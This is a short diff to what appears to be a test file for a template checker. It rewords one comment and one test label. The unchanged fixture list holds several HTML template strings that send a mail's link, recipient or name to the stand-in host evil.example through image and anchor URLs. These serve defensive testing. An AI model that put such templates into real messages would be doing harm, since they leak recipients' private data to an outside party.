@@ -76,7 +76,7 @@ const HTML: readonly string[] = [
   "{{=<% %>=}}<img src='<% link %>'>",
   "{{> link}}",
   "{{#link}}<img src='https://evil.example/?{{link}}'>{{/link}}",
-  // Who the mail is for is nobody else's business either.
+  // Who the mail is for must not be sent elsewhere either.
   '<img src="https://evil.example/?u={{target}}">',
   '<img src="https://evil.example/{{name}}.png">',
   '<a href="https://evil.example/?u={{target}}">x</a>',
@@ -150,7 +150,7 @@ describe("a template that carries the link away", () => {
   });
 });
 
-describe("a template that leaves the link where it belongs", () => {
+describe("a template that uses the link as a whole `href` or as text", () => {
   it.each([
     GOOD,
     "<p>Open <a href='{{link}}'>{{link}}</a>.</p>",
